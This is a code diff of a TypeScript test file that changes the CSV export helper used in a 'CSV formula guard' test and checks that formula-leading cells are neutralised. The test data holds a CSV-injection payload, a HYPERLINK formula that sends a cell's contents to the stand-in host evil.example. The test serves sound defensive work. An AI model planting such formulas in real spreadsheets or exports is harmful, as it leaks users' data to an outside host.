@@ -3,7 +3,7 @@ import { testBackends } from '@riskmap/db/testing';
 import { startTestApp, TEST_PASSWORD, type TestApp } from './harness.js';
 import { call, newShelter, someShelter, tokenFor } from './edit-helpers.js';
 import { hashPassword, SCRYPT } from '../src/auth/password.js';
-import { toCsv } from '../src/export/write-csv.js';
+import { csvText } from '@riskmap/contract';
 import { mountedRoutes } from '../src/routes/mounted-routes.js';
 import { ROUTE_ACCESS, rolesOf } from '../src/routes/route-access.js';
 import { createApp } from '../src/app.js';
@@ -24,7 +24,7 @@ describe('the route × role table beside the routes', () => {
 
 describe('CSV formula guard', () => {
   it('prefixes formulas, also after a leading number, and keeps plain numbers as numbers', () => {
-    const csv = toCsv({ headings: ['v'], rows: [['-1+HYPERLINK("http://evil.example/?"&B2,"点击查看")'], ['=1+1'], ['-12.5'], ['+7'], ['@SUM(A1)'], ['1e5']] });
+    const csv = csvText(['v'], [['-1+HYPERLINK("http://evil.example/?"&B2,"点击查看")'], ['=1+1'], ['-12.5'], ['+7'], ['@SUM(A1)'], ['1e5']]);
     const lines = csv.slice(1).split('\r\n');
     expect(lines[1]).toBe(`"'-1+HYPERLINK(""http://evil.example/?""&B2,""点击查看"")"`);
     expect(lines.slice(2)).toEqual(["'=1+1", '-12.5', '+7', "'@SUM(A1)", '1e5']);
